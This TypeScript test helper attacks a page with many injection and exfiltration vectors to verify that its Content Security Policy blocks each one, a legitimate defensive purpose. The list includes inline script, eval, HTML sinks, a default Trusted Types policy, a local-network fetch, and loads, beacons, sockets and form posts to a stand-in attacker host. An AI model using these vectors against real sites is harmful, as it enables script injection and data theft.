/** Attacks that succeeded, and policy directives that no attack violated. */
interface Outcome {
	readonly succeeded: readonly string[];
	readonly missed: readonly string[];
}

/**
 * Attacks a page as text that became script or markup would, and reports what succeeded. The test's host watch detects
 * requests to other hosts. The function is serialised into the page, so it may use nothing defined outside.
 */
export async function attackPage(expected: readonly string[]): Promise<Outcome> {
	const ATTACKER_ORIGIN = 'http://stranger.example';
	const world = globalThis as unknown as Record<string, unknown>;
	const directives = new Set<string>();
	const missed = () => expected.filter((each) => !directives.has(each));
	const settled = async () => {
		for (let waits = 0; waits < 50 && missed().length > 0; waits += 1)
			await new Promise((resolve) => setTimeout(resolve, 50));
	};
	document.addEventListener('securitypolicyviolation', (event) => directives.add(event.effectiveDirective));

	const host = document.createElement('div');
	document.body.append(host);
	const make = (name: string, attributes: Readonly<Record<string, string>>, text = '') => {
		const element = document.createElement(name);
		for (const [each, value] of Object.entries(attributes)) element.setAttribute(each, value);
		element.append(text);
		host.append(element);
		return element;
	};
	const hit = (name: string) => `hit=(globalThis.hit||[]).concat('${name}')`;

	/** Each attack returns true or sets its mark if it succeeds. */
	const attacks: Readonly<Record<string, () => unknown>> = {
		'inline script': () => make('script', {}, hit('inline script')),
		'inline module': () => make('script', { type: 'module' }, hit('inline module')),
		'script element': () => make('script', { src: `${ATTACKER_ORIGIN}/a.js` }) && false,
		'script of data': () => make('script', { src: `data:text/javascript,${hit('script of data')}` }) && false,
		'imported script': () => import(`${ATTACKER_ORIGIN}/a.js` as string),
		'imported data': () => import(`data:text/javascript,${hit('imported data')}` as string),
		'event handler': () => (make('button', { onclick: hit('event handler') }) as HTMLButtonElement).click(),
		'javascript: link': () =>
			(make('a', { href: `javascript:${hit('javascript: link')}` }) as HTMLAnchorElement).click(),
		eval: () => (0, eval)('true'),
		Function: () => new Function('return true')(),
		'string timer': () => void setTimeout(hit('string timer')),
		innerHTML: () => ((host.innerHTML = '<b>x</b>'), host.querySelector('b') !== null),
		outerHTML: () => ((make('p', {}).outerHTML = '<b>x</b>'), host.querySelector('b') !== null),
		insertAdjacentHTML: () => (host.insertAdjacentHTML('beforeend', '<b>x</b>'), true),
		'document.write': () => (document.write('<b>x</b>'), true),
		DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html') !== null,
		fragment: () => document.createRange().createContextualFragment('<b>x</b>') !== null,
		'frame of text': () => ((document.createElement('iframe').srcdoc = '<b>x</b>'), true),
		'policy of its own': () =>
			trustedTypes?.createPolicy('own', { createScriptURL: (text) => text }) !== undefined,
		'default policy': () =>
			trustedTypes?.createPolicy('default', { createScriptURL: (text) => text }) !== undefined,
		'worker of text': () => (new Worker(URL.createObjectURL(new Blob(['']))), true),
		'service worker': () => navigator.serviceWorker.register('/other.js'),
		'style attribute': () =>
			getComputedStyle(make('p', { style: 'color: rgb(1, 2, 3)' })).color === 'rgb(1, 2, 3)',
		'style element': () => {
			make('style', {}, '.attacked { color: rgb(1, 2, 3) }');
			return getComputedStyle(make('p', { class: 'attacked' })).color === 'rgb(1, 2, 3)';
		},
		'foreign sheet': () => make('link', { rel: 'stylesheet', href: `${ATTACKER_ORIGIN}/a.css` }) && false,
		fetch: () => fetch(`${ATTACKER_ORIGIN}/`, { mode: 'no-cors' }),
		'fetch of the local net': () => fetch('http://192.168.0.1/', { mode: 'no-cors' }),
		socket: () => void new WebSocket('ws://stranger.example/'),
		beacon: () => navigator.sendBeacon(`${ATTACKER_ORIGIN}/`, 'x') && false,
		events: () => void new EventSource(`${ATTACKER_ORIGIN}/`),
		image: () => make('img', { src: `${ATTACKER_ORIGIN}/a.png` }) && false,
		sound: () => make('audio', { src: `${ATTACKER_ORIGIN}/a.mp3` }) && false,
		object: () => make('object', { data: `${ATTACKER_ORIGIN}/a` }) && false,
		manifest: () =>
			document.head.append(make('link', { rel: 'manifest', href: `${ATTACKER_ORIGIN}/a.json` })),
		font: () => new FontFace('x', `url(${ATTACKER_ORIGIN}/a.woff2)`).load(),
		frame: () => make('iframe', { src: `${ATTACKER_ORIGIN}/` }) && false,
		'frame of its own page': () =>
			new Promise<boolean>((resolve) => {
				const frame = make('iframe', { src: '/404' }) as HTMLIFrameElement;
				frame.addEventListener('load', () => resolve(!!frame.contentDocument?.title));
			}),
		form: () => (make('form', { action: `${ATTACKER_ORIGIN}/`, method: 'post' }) as HTMLFormElement).submit(),
		'form to itself': () => (make('form', { action: '/', method: 'post' }) as HTMLFormElement).submit(),
		base: () => (
			document.head.prepend(make('base', { href: `${ATTACKER_ORIGIN}/` })),
			document.baseURI.startsWith(ATTACKER_ORIGIN)
		),
	};

	const succeeded: string[] = [];
	const tryEach = async () => {
		for (const [name, attack] of Object.entries(attacks))
			try {
				const result = await attack();
				if (result !== undefined && result !== false && !(result instanceof Element)) succeeded.push(name);
			} catch {
				// The page refused the attack, as expected.
			}
		await settled();
		host.remove();
	};
	// Runs in a separate task, because a debugger's task is exempt from the policy.
	await new Promise<void>((resolve) => setTimeout(() => void tryEach().then(resolve)));
	return {
		succeeded: [...succeeded, ...((world['hit'] as string[] | undefined) ?? [])],
		missed: missed(),
	};
}
